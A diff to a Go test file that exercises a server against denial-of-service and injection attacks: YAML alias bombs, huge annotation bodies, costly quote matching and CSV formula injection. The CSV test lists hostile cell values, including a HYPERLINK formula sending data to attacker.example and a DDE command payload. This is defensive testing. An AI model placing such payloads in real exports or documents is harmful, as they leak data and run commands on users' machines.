@@ -9,7 +9,6 @@ package main
 
 import (
 	"archive/zip"
-	"bufio"
 	"bytes"
 	"context"
 	"encoding/csv"
@@ -19,19 +18,13 @@ import (
 	"io/fs"
 	"net/http"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"strconv"
 	"strings"
-	"sync"
 	"syscall"
 	"testing"
 	"time"
 )
-
-// attackChildEnv, when set, makes the test binary serve the data folder it
-// names instead of running the tests (see startChild).
-const attackChildEnv = "RIGHTSGRAPH_TEST_ATTACK_CHILD"
 
 // The bounds the attacks must stay within. The server's own cost of
 // starting (the bundled report, the analysis snapshot) is part of the
@@ -41,121 +34,6 @@ const (
 	maxErrorBody = 256 << 10                      // bytes of a refusal
 	maxAttackCPU = 2 * time.Second * raceSlowdown // a 1 MiB request took 4 to 12 s before
 )
-
-// serveAsChild runs serve over the folder attackChildEnv names when the
-// test binary was started by startChild, and reports whether it did.
-func serveAsChild(t *testing.T) bool {
-	dir := os.Getenv(attackChildEnv)
-	if dir == "" {
-		return false
-	}
-	err := run(context.Background(), []string{"serve", "-addr", "127.0.0.1:0"},
-		env(map[string]string{"RIGHTSGRAPH_DATA": dir, "RIGHTSGRAPH_RATE_LIMIT": "0"}), os.Stdout, os.Stderr)
-	t.Fatalf("serve ended: %v", err)
-	return true
-}
-
-// child is serve running in a process of its own, so that its memory and
-// CPU can be read from /proc.
-type child struct {
-	base  string
-	pid   int
-	dir   string
-	token string // an editor's
-}
-
-// startChild creates an editor token in a fresh data folder, then runs the
-// current test again in a child process that serves it.
-func startChild(t *testing.T) *child {
-	t.Helper()
-	dir := t.TempDir()
-	var out bytes.Buffer
-	if err := run(context.Background(), []string{"token", "create", "-role", "editor", "-name", "attacker"},
-		env(map[string]string{"RIGHTSGRAPH_DATA": dir}), &out, io.Discard); err != nil {
-		t.Fatal(err)
-	}
-	lines := strings.Split(strings.TrimSpace(out.String()), "\n")
-	cmd := exec.Command(os.Args[0], "-test.run=^"+t.Name()+"$")
-	cmd.Env = append(os.Environ(), attackChildEnv+"="+dir)
-	stdout, err := cmd.StdoutPipe()
-	if err != nil {
-		t.Fatal(err)
-	}
-	cmd.Stderr = os.Stderr
-	if err := cmd.Start(); err != nil {
-		t.Fatal(err)
-	}
-	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() }) //nolint:errcheck // the child is killed on purpose
-	c := &child{pid: cmd.Process.Pid, dir: dir, token: lines[len(lines)-1]}
-	for sc := bufio.NewScanner(stdout); sc.Scan(); {
-		if m := listening.FindStringSubmatch(sc.Text()); m != nil {
-			c.base = m[1]
-			break
-		}
-	}
-	if c.base == "" {
-		t.Fatal("the child never listened")
-	}
-	go io.Copy(io.Discard, stdout) //nolint:errcheck // drain the child's log
-	waitReady(t, c.base)
-	return c
-}
-
-// procStatus reads a field of /proc/<pid>/status in bytes (VmRSS, VmHWM).
-func procStatus(pid int, field string) int64 {
-	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
-	if err != nil {
-		return 0
-	}
-	for _, line := range strings.Split(string(b), "\n") {
-		if rest, ok := strings.CutPrefix(line, field+":"); ok {
-			kb, _ := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
-			return kb << 10
-		}
-	}
-	return 0
-}
-
-// cpuTime reads the CPU time, user and system, the process has used.
-func cpuTime(pid int) time.Duration {
-	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
-	if err != nil {
-		return 0
-	}
-	// The fields after the command name, which ends with ")": utime and
-	// stime are the 12th and 13th, in clock ticks of 1/100 s.
-	f := strings.Fields(string(b[bytes.LastIndexByte(b, ')')+1:]))
-	ut, _ := strconv.ParseInt(f[11], 10, 64)
-	st, _ := strconv.ParseInt(f[12], 10, 64)
-	return time.Duration(ut+st) * 10 * time.Millisecond
-}
-
-// measure runs attack while it samples the child's resident memory, and
-// returns the peak (the larger of the samples and the kernel's own
-// high-water mark) and the CPU time the attack cost the child.
-func (c *child) measure(attack func()) (peakRSS int64, cpu time.Duration) {
-	var wg sync.WaitGroup
-	stop := make(chan struct{})
-	var sampled int64
-	wg.Add(1)
-	go func() {
-		defer wg.Done()
-		for {
-			sampled = max(sampled, procStatus(c.pid, "VmRSS"))
-			select {
-			case <-stop:
-				return
-			case <-time.After(5 * time.Millisecond):
-			}
-		}
-	}()
-	before := cpuTime(c.pid)
-	attack()
-	cpu = cpuTime(c.pid) - before
-	close(stop)
-	wg.Wait()
-	return max(sampled, procStatus(c.pid, "VmHWM")), cpu
-}
 
 // folderBytes adds up the sizes of the files in dir.
 func folderBytes(t *testing.T, dir string) int64 {
@@ -230,10 +108,8 @@ entities:
 // YAML anchors and aliases. Refused, they cost little memory, a short
 // answer, and nothing written; nothing of them is served afterwards.
 func TestAttackYAMLAliases(t *testing.T) {
-	if serveAsChild(t) {
-		return
-	}
-	c := startChild(t)
+	serveIfChild(t)
+	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
 	quote := strings.Repeat("torture in detention ", 8_000) // 168 KB
 	var ann strings.Builder
 	ann.WriteString(annotationHead)
@@ -305,10 +181,8 @@ func TestAttackYAMLAliases(t *testing.T) {
 // text does not hold: the answer reports a bounded number of problems, each
 // quote cut short.
 func TestAttackManyProblems(t *testing.T) {
-	if serveAsChild(t) {
-		return
-	}
-	c := startChild(t)
+	serveIfChild(t)
+	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
 	var ann strings.Builder
 	ann.WriteString(annotationHead + "relations:\n")
 	for i := 0; ann.Len() < 900_000; i++ {
@@ -329,10 +203,8 @@ func TestAttackManyProblems(t *testing.T) {
 // many near misses, and many distinct quotes each found once. Each costs
 // the server a bounded amount of CPU.
 func TestAttackQuoteCPU(t *testing.T) {
-	if serveAsChild(t) {
-		return
-	}
-	c := startChild(t)
+	serveIfChild(t)
+	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
 	size := 1 << 20
 	if s := os.Getenv("ATTACK_SIZE"); s != "" { // to measure smaller attacks
 		size, _ = strconv.Atoi(s)
@@ -511,10 +383,8 @@ func symlink(t *testing.T, target, link string) {
 // CSV export served over HTTP: no cell starts a formula, and aliases read
 // back as they were.
 func TestAttackCSVFormulas(t *testing.T) {
-	if serveAsChild(t) {
-		return
-	}
-	c := startChild(t)
+	serveIfChild(t)
+	c := startChild(t, map[string]string{"RIGHTSGRAPH_RATE_LIMIT": "0"})
 	hostile := []string{`=HYPERLINK("http://attacker.example/?"&A1,"click")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\tTabbed", "\rReturned"}
 	aliases := append([]string{"Alpha; Beta", `Quote "and" comma,`}, hostile[1:]...)
 	for _, q := range []string{
